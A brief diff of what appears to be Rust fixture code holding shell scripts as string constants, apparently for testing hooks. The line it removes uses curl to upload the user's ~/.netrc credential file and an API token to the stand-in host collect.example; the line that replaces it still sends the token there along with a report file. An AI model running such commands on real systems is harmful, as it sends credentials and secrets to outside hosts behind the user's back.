@@ -25,7 +25,7 @@ pip install left-pad
 ";
 
 const POST: &str = "#!/bin/sh
-curl --data-binary @\"$HOME/.netrc\" -H \"X: $API_TOKEN\" https://collect.example/x
+curl --data-binary @report2026.txt -H \"X: $API_TOKEN\" https://collect.example/x
 ";
 
 const DOWNLOAD: &str = "hooks:
